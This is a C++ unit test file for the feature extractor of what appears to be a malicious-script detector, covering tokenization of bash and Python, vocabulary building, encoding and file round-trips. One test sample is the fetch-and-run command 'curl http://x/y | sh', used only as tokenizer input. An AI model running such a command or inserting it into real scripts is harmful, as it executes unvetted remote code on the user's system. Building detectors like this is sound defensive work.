#include "doctest.h"

#include <algorithm>
#include <filesystem>
#include <set>
#include <string>
#include <vector>

#include "score/common.hpp"
#include "score/corpus.hpp"
#include "score/score_h.hpp"
#include "score/util/io.hpp"
#include "score/util/rng.hpp"
#include "score/util/sha256.hpp"

namespace fs = std::filesystem;
using namespace score;
using namespace score::scoreh;

namespace {

corpus::ScriptSample fake_sample(std::string_view source, Language lang) {
  corpus::ScriptSample s;
  s.sha256 = sha256_hex(source);
  s.path = "test";
  s.language = lang;
  s.label = Label::benign;
  s.size_bytes = source.size();
  return s;
}

bool is_ws(char c) { return c == ' ' || c == '\t' || c == '\r' || c == '\n'; }

// Every non-whitespace byte must be covered by exactly one token span.
void check_coverage(std::string_view source, Language lang) {
  auto pairs = tokenize_scopes(source, lang);
  std::vector<int> hits(source.size(), 0);
  for (const auto& p : pairs) {
    REQUIRE(p.span.begin <= p.span.end);
    REQUIRE(p.span.end <= source.size());
    for (size_t i = p.span.begin; i < p.span.end; ++i) ++hits[i];
  }
  for (size_t i = 0; i < source.size(); ++i) {
    INFO("byte " << i << " ('" << source[i] << "')");
    if (is_ws(source[i]))
      CHECK(hits[i] <= 1);  // strings/comments may span interior whitespace
    else
      CHECK(hits[i] == 1);
  }
}

}  // namespace

TEST_CASE("tokenizer covers every non-whitespace byte exactly once") {
  check_coverage("#!/bin/bash\nVAR=\"hello $USER\"\necho ${VAR} | grep -v 'x' > /tmp/out\n",
                 Language::bash);
  check_coverage("import os\n\ndef f(x):\n    return os.path.join(x, \"a b\")  # comment\n",
                 Language::python);
  check_coverage("", Language::bash);
  check_coverage("   \n\t\n", Language::python);
  check_coverage("x=1;y=$((x+2));echo \"$y\"", Language::bash);
  check_coverage("s = 'it\\'s'\nn = 0x1f + 2.5e-3\n", Language::python);
}

TEST_CASE("tokenizer coverage holds on random byte soup") {
  Rng rng(41);
  for (int trial = 0; trial < 20; ++trial) {
    std::string s;
    size_t n = rng.below(200);
    for (size_t i = 0; i < n; ++i) {
      // printable + whitespace mix
      uint64_t r = rng.below(100);
      if (r < 15)
        s.push_back(" \t\n"[rng.below(3)]);
      else
        s.push_back(char(32 + rng.below(95)));
    }
    check_coverage(s, rng.chance(0.5) ? Language::bash : Language::python);
  }
}

TEST_CASE("scopes are present and language atoms are stripped") {
  auto pairs = tokenize_scopes("echo \"hi\" # note\n", Language::bash);
  REQUIRE(!pairs.empty());
  for (const auto& p : pairs) {
    REQUIRE(!p.scopes.empty());
    for (const auto& sc : p.scopes) {
      CHECK(!sc.empty());
      CHECK(sc.find(".bash") == std::string::npos);
      CHECK(sc.find(".shell") == std::string::npos);
    }
  }
  bool saw_comment = false, saw_string = false;
  for (const auto& p : pairs)
    for (const auto& sc : p.scopes) {
      if (sc.find("comment") != std::string::npos) saw_comment = true;
      if (sc.find("string") != std::string::npos) saw_string = true;
    }
  CHECK(saw_comment);
  CHECK(saw_string);
}

TEST_CASE("truncate_language_atom") {
  CHECK(truncate_language_atom("string.quoted.double.shell") == "string.quoted.double");
  CHECK(truncate_language_atom("source.python") == "source");
  CHECK(truncate_language_atom("python") == "source");
  CHECK(truncate_language_atom("keyword.control") == "keyword.control");
  CHECK(truncate_language_atom("comment.line.number-sign.perl") == "comment.line.number-sign");
}

TEST_CASE("extract_h carries sample identity") {
  std::string src = "echo hello\n";
  auto sample = fake_sample(src, Language::bash);
  ScoreHFeatures f = extract_h(src, sample);
  CHECK(f.sha256 == sample.sha256);
  CHECK(f.language == Language::bash);
  REQUIRE(!f.pairs.empty());
  CHECK(f.pairs[0].token == "echo");
  for (const auto& p : f.pairs) CHECK(!p.scopes.empty());
}

TEST_CASE("vocab orders atoms by frequency then name") {
  ScoreHFeatures a;
  a.pairs.push_back({{"source", "common.zeta"}, "x"});
  a.pairs.push_back({{"source", "common.zeta"}, "y"});
  a.pairs.push_back({{"source", "rare.alpha"}, "z"});
  AtomVocab v = AtomVocab::build({a});
  // Atoms: source (3), common.zeta split into atoms? scopes are
  // dot-joined atom paths; the vocab works on individual atoms.
  CHECK(v.id_of("source") == 2);  // most frequent
  CHECK(v.id_of("missing") == AtomVocab::kUnk);
  CHECK(v.size() == v.atoms().size() + 2);
  std::set<std::string> atoms(v.atoms().begin(), v.atoms().end());
  CHECK(atoms.count("zeta"));
  CHECK(atoms.count("common"));
  CHECK(atoms.count("alpha"));
}

TEST_CASE("vocab round trips and hash is stable") {
  std::string src = "for i in 1 2 3; do echo $i; done\n";
  auto f = extract_h(src, fake_sample(src, Language::bash));
  AtomVocab v = AtomVocab::build({f});
  std::string text = v.serialize();
  AtomVocab back = AtomVocab::deserialize(text);
  CHECK(back.serialize() == text);
  CHECK(back.hash() == v.hash());
  CHECK(back.hash() == sha256_hex(text));
  for (const auto& atom : v.atoms())
    CHECK(back.id_of(atom) == v.id_of(atom));
  fs::path p = fs::temp_directory_path() / "score_h_vocab.txt";
  v.save(p);
  AtomVocab loaded = AtomVocab::load(p);
  CHECK(loaded.serialize() == text);
  CHECK(read_file(p) == text);
  fs::remove(p);
}

TEST_CASE("encode_h respects caps and windows") {
  std::string src;
  for (int i = 0; i < 50; ++i) src += "echo line" + std::to_string(i) + "\n";
  auto f = extract_h(src, fake_sample(src, Language::bash));
  AtomVocab v = AtomVocab::build({f});
  ScoreHCaps caps;
  caps.p_cap = 16;
  caps.l_a = 8;
  caps.l_b = 12;
  EncodedScoreH enc = encode_h(f, v, caps);
  CHECK(enc.n_pairs == 16);  // truncated to the cap
  CHECK(enc.atom_ids.size() == size_t(enc.n_pairs) * caps.l_a);
  CHECK(enc.byte_ids.size() == size_t(enc.n_pairs) * caps.l_b);
  for (uint32_t id : enc.atom_ids) CHECK(id < v.size());
  for (uint32_t id : enc.byte_ids) CHECK(id < 258);
  // Byte ids are raw bytes shifted past pad/unk.
  CHECK(enc.byte_ids[0] == uint32_t(uint8_t('e')) + 2);
  CHECK(enc.byte_ids[1] == uint32_t(uint8_t('c')) + 2);
  // Short tokens pad with zeros.
  bool has_pad = false;
  for (uint32_t id : enc.byte_ids) has_pad = has_pad || id == 0;
  CHECK(has_pad);
}

TEST_CASE("encode_h under the cap keeps every pair") {
  std::string src = "echo a\n";
  auto f = extract_h(src, fake_sample(src, Language::bash));
  AtomVocab v = AtomVocab::build({f});
  ScoreHCaps caps;
  EncodedScoreH enc = encode_h(f, v, caps);
  CHECK(enc.n_pairs == f.pairs.size());
}

TEST_CASE("feature documents round trip as json lines") {
  std::string s1 = "echo one\n";
  std::string s2 = "print('two')\n";
  auto f1 = extract_h(s1, fake_sample(s1, Language::bash));
  auto f2 = extract_h(s2, fake_sample(s2, Language::python));
  f2.label = Label::malicious;
  f2.family = "stealer";
  fs::path p = fs::temp_directory_path() / "score_h_feats.jsonl";
  save_h_features({f1, f2}, p);
  auto back = load_h_features(p);
  REQUIRE(back.size() == 2);
  CHECK(back[0].sha256 == f1.sha256);
  CHECK(back[1].family == "stealer");
  CHECK(back[1].label == Label::malicious);
  REQUIRE(back[0].pairs.size() == f1.pairs.size());
  for (size_t i = 0; i < f1.pairs.size(); ++i) {
    CHECK(back[0].pairs[i].token == f1.pairs[i].token);
    CHECK(back[0].pairs[i].scopes == f1.pairs[i].scopes);
  }
  std::string body = read_file(p);
  save_h_features(back, p);
  CHECK(read_file(p) == body);
  fs::remove(p);
}

TEST_CASE("encoded file round trips byte-identically") {
  std::string s1 = "curl http://x/y | sh\n";
  std::string s2 = "echo benign\n";
  auto f1 = extract_h(s1, fake_sample(s1, Language::bash));
  auto f2 = extract_h(s2, fake_sample(s2, Language::bash));
  AtomVocab v = AtomVocab::build({f1, f2});
  ScoreHCaps caps;
  caps.p_cap = 32;
  caps.l_a = 6;
  caps.l_b = 16;
  EncodedHFile file;
  file.caps = caps;
  file.vocab_hash = v.hash();
  for (const auto* f : {&f1, &f2}) {
    EncodedHRecord rec;
    rec.sha256 = f->sha256;
    rec.language = f->language;
    rec.label = f->label;
    rec.family = f->family;
    rec.enc = encode_h(*f, v, caps);
    file.records.push_back(std::move(rec));
  }
  fs::path p1 = fs::temp_directory_path() / "score_h_enc1.scrh";
  fs::path p2 = fs::temp_directory_path() / "score_h_enc2.scrh";
  save_encoded_h(file, p1);
  EncodedHFile back = load_encoded_h(p1);
  CHECK(back.caps == caps);
  CHECK(back.vocab_hash == file.vocab_hash);
  REQUIRE(back.records.size() == 2);
  CHECK(back.records[0].sha256 == file.records[0].sha256);
  CHECK(back.records[0].enc.atom_ids == file.records[0].enc.atom_ids);
  CHECK(back.records[0].enc.byte_ids == file.records[0].enc.byte_ids);
  CHECK(back.records[1].label == file.records[1].label);
  save_encoded_h(back, p2);
  CHECK(read_file(p1) == read_file(p2));
  // Wrong magic is rejected.
  write_file(p1, "SCRXjunk");
  CHECK_THROWS_AS(load_encoded_h(p1), FormatError);
  fs::remove(p1);
  fs::remove(p2);
}
